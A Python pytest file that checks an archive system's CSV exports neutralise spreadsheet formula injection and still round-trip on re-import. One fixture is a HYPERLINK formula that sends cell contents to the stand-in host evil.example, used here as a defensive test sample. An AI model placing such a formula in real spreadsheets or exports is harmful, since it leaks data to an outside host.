"""CSV exports hold no cell a spreadsheet would run (公式注入), and still re-import unchanged."""

import csv
import io

import pytest

from sd.archive.core.codes import DAT13
from sd.archive.core.codes import CodeRule
from sd.archive.core.csvcells import FORMULA_STARTS
from sd.archive.core.csvcells import neutral
from sd.archive.core.csvcells import restore
from sd.archive.core.scheme import Category
from sd.archive.core.scheme import ClassificationScheme
from sd.archive.core.scheme import RetentionSchedule
from sd.archive.core.scheme import ScheduleRule
from sd.archive.core.scheme import read_schedule_csv
from sd.archive.core.scheme import read_scheme_csv
from sd.archive.core.scheme import write_schedule_csv
from sd.archive.core.scheme import write_scheme_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
SCHEME = ClassificationScheme(
    "J019", "@某某局", (Category("WS", "+文书", 1, CodeRule(grammar=DAT13, item_width=3)),)
)
SCHEDULE = RetentionSchedule(
    "J019",
    (
        ScheduleRule(
            "R1", "WS", "Y", priority=-5, description=HYPERLINK, title_keywords=("@SUM(1)", "年度")
        ),
    ),
)


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+86 531", "'+86 531"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("关于=的通知", "关于=的通知"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_that_would_be_a_formula_is_quoted(value, written):
    assert neutral(value) == written
    assert restore(written) == ("" if value is None else str(value))


def test_scheme_and_schedule_exports_hold_no_formula_and_round_trip():
    scheme_csv, schedule_csv = write_scheme_csv(SCHEME), write_schedule_csv(SCHEDULE)
    written = cells(scheme_csv) + cells(schedule_csv)
    assert not [c for c in written if c.startswith(FORMULA_STARTS)]
    assert "'" + HYPERLINK in written and "'-5" in written
    assert read_scheme_csv(scheme_csv) == SCHEME
    assert read_schedule_csv(schedule_csv, scheme=SCHEME) == SCHEDULE
